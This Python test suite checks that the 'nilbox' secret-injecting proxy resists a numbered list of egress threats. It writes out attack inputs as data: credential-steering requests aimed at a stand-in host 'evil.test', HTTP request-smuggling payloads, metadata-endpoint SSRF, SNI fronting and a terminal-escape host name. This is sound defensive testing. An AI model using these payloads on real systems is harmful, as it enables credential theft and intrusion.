#!/usr/bin/python3
"""THREATS.md, the egress items, one named test each: the attack is made
through the real `nilbox proxy` against a fake upstream that records what it
receives, and each test checks that it failed, that nothing secret left the
host, and that an audit row was written.

A1 A2 A3 A4 A5 A6 A7 A8 A9 A13 A15 A16 A23 A24. (A24 is also covered in
depth by tests/unit/daemon/secrets/test_secrets.c: tampering and swapped ciphertexts.)"""
import json
import os
import socket
import ssl
import threading
import time

from daemon_harness import Daemon, status_of
from proxy_env import ProxyEnv, run_suite, wait_store_open, with_auth

OPENAI = "sk-proj-REALVALUE-5f0c2d8e9a"
OTHER = "ghp_REALOTHER_c0ffee1234"
VMKEY = "vmkey-REAL-only-for-a-7731"
PLAINKEY = "plain-REAL-cleartext-ok-42"
ALL_VALUES = (OPENAI, OTHER, VMKEY, PLAINKEY)

E = None


def setup():
    global E
    E = ProxyEnv(prompt_timeout_ms=1500).__enter__()
    E.secret("OPENAI_API_KEY", OPENAI)
    E.secret("OTHER_SECRET", OTHER)
    E.secret("VM_KEY", VMKEY)
    E.secret("PLAIN_KEY", PLAINKEY)
    E.bind("OPENAI_API_KEY", "api.test")
    E.bind("OTHER_SECRET", "evil.test", "--header", "x-token: {secret}")
    E.bind("VM_KEY", "api.test", "--header", "x-vm-key: {secret}", "--vm", "a")
    E.bind("PLAIN_KEY", "plain.test", "--header", "x-token: {secret}", "--allow-cleartext")
    for n in ("api.test:443", "other.test:443", "evil.test:443", "api.test:80",
              "plain.test:80", "meta.test", "rebind.test"):
        E.rule("allow", n)
    extra = ["other.test:8080:127.0.0.1:%d" % E.plain_port]
    E.px = E.proxy(vm="a", extra_resolve=extra + [
        "meta.test:80:169.254.169.254:80", "rebind.test:443:127.0.0.2:%d" % E.tls_port])
    E.pb = E.proxy(vm="b", extra_resolve=extra)


# ---- helpers ----------------------------------------------------------------

def rows(target_prefix):
    return [r for r in E.received() if r["target"].startswith(target_prefix)]


def never_sent(prefixes, *values):
    """No upstream request whose target starts with one of `prefixes`
    carries any of the values, anywhere (line, headers, body)."""
    for r in E.received():
        if not r["target"].startswith(tuple(prefixes)):
            continue
        blob = json.dumps(r)
        for v in values:
            assert v not in blob, ("secret left the host", r["target"])


def audit_rows(kind, pred=lambda r: True):
    return [r for r in E.audit(kind) if pred(r)]


def wait_audit(kind, pred, what):
    return E.wait_for(lambda: audit_rows(kind, pred), timeout=10) or what


def exchange(sock, raw, timeout=10):
    sock.settimeout(timeout)
    sock.sendall(raw)
    out = b""
    try:
        while True:
            b = sock.recv(65536)
            if not b:
                break
            out += b
            if b"\r\n\r\n" in out:
                head, _, body = out.partition(b"\r\n\r\n")
                for ln in head.split(b"\r\n"):
                    if ln.lower().startswith(b"content-length:"):
                        if len(body) >= int(ln.split(b":")[1]):
                            return out
    except (socket.timeout, ssl.SSLError, ConnectionError):
        pass
    return out


# ---- credential theft and misuse -------------------------------------------

def test_A1_host_steering():
    # Inside a tunnel approved for api.test, a request whose Host names
    # another host is refused; the key goes nowhere.
    s = E.tunnel("api.test")
    out = exchange(s, b"GET /a1 HTTP/1.1\r\nHost: evil.test\r\n"
                      b"Authorization: Bearer OPENAI_API_KEY\r\n\r\n")
    s.close()
    assert status_of(out) == 403 and b"X-Nilbox-Reason: host-mismatch" in out, out
    # Same with an absolute-form target naming another host inside the tunnel.
    s = E.tunnel("api.test")
    out = exchange(s, b"GET https://evil.test/a1b HTTP/1.1\r\nHost: api.test\r\n"
                      b"Authorization: Bearer OPENAI_API_KEY\r\n\r\n")
    s.close()
    assert status_of(out) == 403, out
    # Plain proxy request: URL and Host disagree.
    code, body, _ = E.curl(E.px, "http://api.test/a1c", "-H", "Host: evil.test")
    assert code == 403, body
    assert not rows("/a1"), "the upstream must not see any of them"
    never_sent(["/a1"], OPENAI)
    wait_audit("refusal", lambda r: r["detail"].get("threat") == "A1", "A1 audit row")


def test_A2_secret_lookup_by_name():
    # The guest names other secrets (and an internal record) in api.test's
    # bound placement: only OPENAI_API_KEY may ever be used there.
    for name in ("OTHER_SECRET", "VM_KEY", "PLAIN_KEY", "nilbox.ca.key"):
        code, body, _ = E.curl(E.px, "https://api.test/a2/" + name.replace(".", "_"),
                               "-H", "Authorization: Bearer " + name)
        assert code == 200
        got = [v for k, v in rows("/a2/" + name.replace(".", "_"))[-1]["headers"]
               if k.lower() == "authorization"]
        assert got == ["Bearer " + name], got  # forwarded as the harmless dummy
    never_sent(["/"], OTHER, VMKEY, PLAINKEY)
    wait_audit("leak", lambda r: "OTHER_SECRET" in r["detail"].get("secrets", []) and
               r["host"] == "api.test", "A2/A3 leak row")


def test_A3_cross_host_placeholder():
    code, _, _ = E.curl(E.px, "https://other.test/a3",
                        "-H", "Authorization: Bearer OPENAI_API_KEY")
    assert code == 200
    got = [v for k, v in rows("/a3")[-1]["headers"] if k.lower() == "authorization"]
    assert got == ["Bearer OPENAI_API_KEY"], got
    never_sent(["/a3"], OPENAI)
    wait_audit("leak", lambda r: r["detail"].get("threat") == "A3" and
               r["host"] == "other.test", "A3 leak row")


def test_A4_placement_confusion():
    path = os.path.join(E.tmp, "a4body")
    with open(path, "w") as f:
        f.write('{"key": "OPENAI_API_KEY"}')
    code, _, _ = E.curl(E.px, "https://api.test/a4/OPENAI_API_KEY?k=OPENAI_API_KEY",
                        "-H", "Cookie: session=OPENAI_API_KEY",
                        "-H", "X-Other: Bearer OPENAI_API_KEY",
                        "-H", "Authorization: Token OPENAI_API_KEY",
                        "--data-binary", "@" + path)
    assert code == 200
    r = rows("/a4/")[-1]
    assert r["target"] == "/a4/OPENAI_API_KEY?k=OPENAI_API_KEY", r["target"]
    hv = {k.lower(): v for k, v in r["headers"]}
    assert hv["cookie"] == "session=OPENAI_API_KEY"
    assert hv["x-other"] == "Bearer OPENAI_API_KEY"
    assert hv["authorization"] == "Token OPENAI_API_KEY"
    assert r["body_prefix"] == '{"key": "OPENAI_API_KEY"}'
    never_sent(["/a4"], OPENAI)
    wait_audit("leak", lambda r: r["detail"].get("threat") == "A4", "A4 leak row")


def test_A5_echo_exfiltration():
    code, body, _ = E.curl(E.px, "https://api.test/echo/a5",
                           "-H", "Authorization: Bearer OPENAI_API_KEY")
    assert code == 200 and OPENAI.encode() not in body, body
    assert b"Bearer OPENAI_API_KEY" in body
    # reflected in response headers too
    code, body, r = E.curl(E.px, "https://api.test/echo-header/a5",
                           "-H", "Authorization: Bearer OPENAI_API_KEY", "-D", "-")
    assert OPENAI.encode() not in r.stdout, r.stdout
    assert b"X-Echo-Authorization: Bearer OPENAI_API_KEY" in r.stdout
    # the upstream did get the real value (this is the one allowed place)
    assert any(OPENAI in json.dumps(x["headers"]) for x in rows("/echo/a5"))
    wait_audit("leak", lambda r: r["detail"].get("threat") == "A5", "A5 redaction row")


def test_A6_redirect_laundering():
    code, body, r = E.curl(E.px, "https://api.test/redirect?to=https://evil.test/a6-steal",
                           "-H", "Authorization: Bearer OPENAI_API_KEY", "-D", "-")
    assert code == 302 and b"Location: https://evil.test/a6-steal" in r.stdout
    assert not rows("/a6-steal"), "the proxy must not follow redirects"
    # A client that follows it with the placeholder makes a new request,
    # judged on its own: evil.test has no binding for OPENAI_API_KEY.
    code, _, _ = E.curl(E.px, "https://evil.test/a6-steal",
                        "-H", "Authorization: Bearer OPENAI_API_KEY")
    assert code == 200
    got = [v for k, v in rows("/a6-steal")[-1]["headers"] if k.lower() == "authorization"]
    assert got == ["Bearer OPENAI_API_KEY"], got
    for x in rows("/a6"):
        assert OPENAI not in json.dumps(x), "secret laundered through a redirect"
    wait_audit("leak", lambda r: r["host"] == "evil.test" and
               "OPENAI_API_KEY" in r["detail"].get("secrets", []), "A6 leak row")


def test_A7_cleartext():
    code, _, _ = E.curl(E.px, "http://api.test/a7", "-H", "Authorization: Bearer OPENAI_API_KEY")
    assert code == 200
    got = [v for k, v in rows("/a7")[-1]["headers"] if k.lower() == "authorization"]
    assert got == ["Bearer OPENAI_API_KEY"], got
    wait_audit("leak", lambda r: r["detail"].get("threat") == "A7", "A7 leak row")
    # Positive control: a binding that allows cleartext injects over HTTP.
    code, _, _ = E.curl(E.px, "http://plain.test/a7ok", "-H", "x-token: PLAIN_KEY")
    assert code == 200
    got = [v for k, v in rows("/a7ok")[-1]["headers"] if k.lower() == "x-token"]
    assert got == [PLAINKEY], got
    never_sent(["/a7"], OPENAI)


def test_A8_domain_fronting_sni():
    for sni in ("evil.test", "other.test"):
        try:
            s = E.tunnel("api.test", sni=sni)
            s.close()
            raise AssertionError("TLS with SNI %s inside a CONNECT to api.test succeeded" % sni)
        except ssl.SSLError:
            pass
    # curl's --connect-to makes the same mismatch (SNI other.test, CONNECT api.test)
    code, _, r = E.curl(E.px, "https://other.test/a8", "--connect-to", "other.test:443:api.test:443")
    assert code == 0 and r.returncode != 0
    assert not rows("/a8")
    wait_audit("refusal", lambda r: r["detail"].get("threat") == "A8", "A8 refusal row")


def test_A9_cross_vm():
    # VM_KEY is bound for VM a only: from VM b the placeholder stays a dummy.
    code, _, _ = E.curl(E.pb, "https://api.test/a9b", "-H", "x-vm-key: VM_KEY")
    assert code == 200
    got = [v for k, v in rows("/a9b")[-1]["headers"] if k.lower() == "x-vm-key"]
    assert got == ["VM_KEY"], got
    code, _, _ = E.curl(E.px, "https://api.test/a9a", "-H", "x-vm-key: VM_KEY")
    got = [v for k, v in rows("/a9a")[-1]["headers"] if k.lower() == "x-vm-key"]
    assert got == [VMKEY], got  # positive control: VM a gets it
    wait_audit("leak", lambda r: r["detail"].get("threat") == "A9", "A9 leak row")
    for r in rows("/a9b"):
        assert VMKEY not in json.dumps(r)
    # An allow-once answer for VM a does not admit VM b: b gets its own
    # prompt, which (unanswered) denies.
    res = {}

    def get(px, key):
        res[key] = E.curl(px, "http://other.test:8080/a9once-" + key, timeout=20)

    def prompt_for(vm):
        ps = json.loads(E.cli("--json", "prompts").stdout)["prompts"]
        return [x for x in ps if x["vm"] == vm and x["port"] == 8080]
    t1 = threading.Thread(target=get, args=(E.px, "a"))
    t1.start()
    p = E.wait_for(lambda: prompt_for("a"))[0]
    t2 = threading.Thread(target=get, args=(E.pb, "b"))
    t2.start()
    pb = E.wait_for(lambda: prompt_for("b"))
    assert pb[0]["id"] != p["id"], "VM b must be asked on its own"
    E.cli("prompts", "answer", str(p["id"]), "allow-once")
    t1.join(30)
    t2.join(30)
    assert res["a"][0] == 200, res["a"]
    code, body, _ = res["b"]
    assert code == 403 and json.loads(body)["code"] == "denied", (code, body)
    assert rows("/a9once-a") and not rows("/a9once-b")


# ---- escaping the network policy -------------------------------------------

def test_A13_host_and_lan_reach():
    for url, why in (("http://meta.test/latest/meta-data", "169.254.169.254"),
                     ("https://rebind.test/a13", "127.0.0.2 (loopback)")):
        code, body, _ = E.curl(E.px, url)
        assert code == 502, (url, code, body)
        j = json.loads(body)
        assert j["reason"] and why in j["reason"], j
    # IP literals to internal ranges without an IP rule: denied or refused.
    code, body, _ = E.curl(E.px, "http://169.254.169.254/latest/meta-data", timeout=10)
    assert code in (403, 502), (code, body)
    wait_audit("refusal", lambda r: r["detail"].get("threat") == "A13", "A13 refusal row")


def test_A15_smuggling():
    bad = {
        "cl-te": b"POST /a15 HTTP/1.1\r\nHost: api.test\r\nContent-Length: 5\r\n"
                 b"Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
        "obs-fold": b"GET /a15 HTTP/1.1\r\nHost: api.test\r\nX-A: a\r\n b\r\n\r\n",
        "bare-lf": b"GET /a15 HTTP/1.1\nHost: api.test\n\n",
        "space-before-colon": b"GET /a15 HTTP/1.1\r\nHost : api.test\r\n\r\n",
        "dup-host": b"GET /a15 HTTP/1.1\r\nHost: api.test\r\nHost: evil.test\r\n\r\n",
        "dup-cl": b"POST /a15 HTTP/1.1\r\nHost: api.test\r\nContent-Length: 1\r\n"
                  b"Content-Length: 2\r\n\r\nab",
        "te-gzip": b"POST /a15 HTTP/1.1\r\nHost: api.test\r\nTransfer-Encoding: gzip, chunked\r\n"
                   b"\r\n0\r\n\r\n",
        "chunk-size": b"POST /a15 HTTP/1.1\r\nHost: api.test\r\nTransfer-Encoding: chunked\r\n"
                      b"\r\nzz\r\nab\r\n0\r\n\r\n",
        "huge-header": b"GET /a15 HTTP/1.1\r\nHost: api.test\r\nX-Big: " + b"a" * 70000 +
                       b"\r\n\r\n",
    }
    for name, raw in bad.items():
        s = E.tunnel("api.test")
        out = exchange(s, raw)
        s.close()
        st = status_of(out)
        assert 400 <= st < 500, (name, out[:200])
    assert not rows("/a15"), "a malformed request reached the upstream"
    # A second request hidden in the first one's body is only ever body.
    s = E.tunnel("api.test")
    smuggled = (b"GET /a15-hidden HTTP/1.1\r\nHost: evil.test\r\n"
                b"Authorization: Bearer OPENAI_API_KEY\r\n\r\n")
    raw = (b"POST /upload HTTP/1.1\r\nHost: api.test\r\nContent-Length: %d\r\n\r\n" %
           len(smuggled)) + smuggled
    out = exchange(s, raw)
    s.close()
    assert status_of(out) == 200 and b'"len": %d' % len(smuggled) in out, out
    assert not rows("/a15-hidden")
    # Plain proxy side too.
    out = exchange(socket.create_connection(("127.0.0.1", E.px.port), timeout=10),
                   with_auth(E.px, b"GET http://api.test/a15 HTTP/1.1\r\nHost: api.test\r\n"
                             b"Content-Length: 3\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"))
    assert status_of(out) == 400 and b"X-Nilbox-Reason:" in out, out
    never_sent(["/a15"], OPENAI)
    wait_audit("refusal", lambda r: r["detail"].get("threat") == "A15", "A15 refusal row")


def test_A16_prompt_timeout():
    t0 = time.time()
    code, body, _ = E.curl(E.px, "https://nobody-answers.other.test/a16", "--resolve",
                           "x:1:127.0.0.1", timeout=20)
    assert code == 403, (code, body)
    j = json.loads(body)
    assert j["code"] == "denied" and "prompt" in j["hint"], j
    assert time.time() - t0 >= 1.0  # it waited for the (1.5 s) deadline, then denied
    # A long, tricky name is shown cut from the front, the real domain kept.
    long = ".".join(["api-openai-com"] * 12) + ".evil.test"
    res = {}

    def get():
        res["r"] = E.curl(E.px, "https://%s/a16b" % long, timeout=20)
    t = threading.Thread(target=get)
    t.start()
    p = E.wait_for(lambda: [x for x in json.loads(E.cli("--json", "prompts").stdout)["prompts"]
                            if x["host"].endswith("evil.test")])[0]
    assert p["host"].startswith("[") and "bytes cut" in p["host"], p
    assert len(p["host"]) < 160
    t.join(30)
    assert res["r"][0] == 403
    # A name with control characters never becomes a prompt.
    s = socket.create_connection(("127.0.0.1", E.px.port), timeout=10)
    out = exchange(s, with_auth(E.px, b"CONNECT api.test\x1b[2J.evil.test:443 HTTP/1.1\r\n"
                                      b"Host: x\r\n\r\n"))
    s.close()
    assert status_of(out) == 400, out
    wait_audit("gate.decision", lambda r: r["detail"].get("reason") == "prompt-timeout",
               "A16 audit row")


# ---- local users (A26) --------------------------------------------------------

def test_A26_proxy_needs_its_token():
    # Any local user can reach the loopback port: without the listener's
    # token nothing happens - no gate decision or prompt, no upstream byte,
    # no injection - and the answer is 407 with Proxy-Authenticate.
    import base64
    before = len(E.received())
    prompts0 = json.loads(E.cli("--json", "prompts").stdout)["prompts"]
    other = "0" * len(E.px.token)
    cases = {
        "none": b"",
        "wrong": b"Proxy-Authorization: Basic " +
                 base64.b64encode(b"nilbox:" + other.encode()) + b"\r\n",
        "other-listener": E.pb.auth,
        "prefix": b"Proxy-Authorization: Basic " +
                  base64.b64encode(b"nilbox:" + E.px.token[:-1].encode()) + b"\r\n",
        "no-user-colon": b"Proxy-Authorization: Basic " +
                         base64.b64encode(E.px.token.encode()) + b"\r\n",
        "bad-base64": b"Proxy-Authorization: Basic %%%%\r\n",
        "other-scheme": b"Proxy-Authorization: Digest " + E.px.token.encode() + b"\r\n",
        "api-header": b"Authorization: Bearer " + E.px.token.encode() + b"\r\n",
        "twice": E.px.auth + b"Proxy-Authorization: Basic eDp5\r\n",
    }
    for name, hdr in cases.items():
        for req in (b"CONNECT api.test:443 HTTP/1.1\r\nHost: api.test:443\r\n%s\r\n",
                    b"GET http://api.test/a26-%s HTTP/1.1\r\nHost: api.test\r\n%s"
                    b"X-Auth: OPENAI_API_KEY\r\n\r\n" % (name.encode(), b"%s"),
                    b"CONNECT new-name.evil.test:443 HTTP/1.1\r\nHost: x\r\n%s\r\n"):
            s = socket.create_connection(("127.0.0.1", E.px.port), timeout=10)
            out = exchange(s, req.replace(b"%s", hdr, 1))
            s.close()
            assert status_of(out) == 407, (name, out)
            assert b"Proxy-Authenticate: Basic realm=\"nilbox\"" in out, out
            assert b"X-Nilbox-Reason: proxy-auth-" in out, out
    assert len(E.received()) == before, "the upstream saw an unauthenticated request"
    prompts1 = json.loads(E.cli("--json", "prompts").stdout)["prompts"]
    assert not [p for p in prompts1 if "new-name" in p["host"]] and len(prompts1) == len(prompts0)
    # The right token, in any user name, and the Bearer form: accepted.
    for hdr in (E.px.auth,
                b"Proxy-Authorization: basic " +
                base64.b64encode(b"someone:" + E.px.token.encode()) + b"\r\n",
                b"Proxy-Authorization: Bearer " + E.px.token.encode() + b"\r\n"):
        s = socket.create_connection(("127.0.0.1", E.px.port), timeout=10)
        out = exchange(s, b"GET http://plain.test/a26ok HTTP/1.1\r\nHost: plain.test\r\n" + hdr +
                       b"Connection: close\r\n\r\n")
        s.close()
        assert status_of(out) == 200, out
    # ... and never forwarded upstream.
    row = rows("/a26ok")[-1]
    assert not [k for k, _ in row["headers"] if k.lower() == "proxy-authorization"], row
    # curl without the token: 407; with it (userinfo form): through.
    code, _, _ = E.curl(type("P", (), {"url": E.px.bare_url})(), "https://api.test/a26c")
    assert code in (0, 407), code
    assert not rows("/a26c")
    # One audit row per burst, never the token.
    found = wait_audit("refusal", lambda r: r["detail"].get("reason", "").startswith("proxy-auth"),
                       "A26 refusal row")
    assert len(found) <= 3, found
    au = json.dumps(E.audit())
    assert E.px.token not in au and E.pb.token not in au
    st, _, body = E.d.unix("GET", "/v1/proxies")
    assert st == 200 and E.px.token.encode() not in body and json.loads(body)["proxies"][0]["auth"] is True, body


# ---- secrets at rest and in logs --------------------------------------------

def test_A23_no_secret_in_logs_or_state():
    # After everything above (injections, echoes, leaks, refusals), no value
    # appears in any file under NILBOX_HOME, the daemon's output, the events
    # or the audit log.
    for path, data in E.all_state_bytes():
        for v in list(ALL_VALUES) + [E.px.token, E.pb.token]:
            assert v.encode() not in data, ("value in", path)
    ev = json.dumps(E.events())
    au = json.dumps(E.audit())
    for v in ALL_VALUES:
        assert v not in ev and v not in au
    assert "inject" in au and "leak" in au  # the audit rows exist, with names only


def test_A24_no_master_key_no_secrets():
    # The same home with another master key: the store stays closed, the
    # proxy cannot start, and nothing is injected anywhere.
    home = E.d.home
    E.stop_clean()  # also: the daemon exits 0 with no sanitizer report
    other_key = os.path.join(E.tmp, "wrong.key")
    fd = os.open(other_key, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o600)
    os.write(fd, os.urandom(32).hex().encode() + b"\n")
    os.close(fd)
    d = Daemon(home=home)
    try:
        d.env.update({"NILBOX_TEST_MODE": "1"})
        d.start("--key-file", other_key)
        wait_store_open(d, state="error")
        r = d.cli("proxy", "--listen", "127.0.0.1:0", "--vm", "a", timeout=20)
        assert r.returncode != 0 and "secret store" in r.stderr, r
        r = d.cli("secret", "ls")
        assert r.returncode != 0
    finally:
        d.cleanup()


if __name__ == "__main__":
    run_suite(setup, [test_A1_host_steering, test_A2_secret_lookup_by_name,
                      test_A3_cross_host_placeholder, test_A4_placement_confusion,
                      test_A5_echo_exfiltration, test_A6_redirect_laundering, test_A7_cleartext,
                      test_A8_domain_fronting_sni, test_A9_cross_vm, test_A13_host_and_lan_reach,
                      test_A15_smuggling, test_A16_prompt_timeout, test_A26_proxy_needs_its_token,
                      test_A23_no_secret_in_logs_or_state, test_A24_no_master_key_no_secrets])
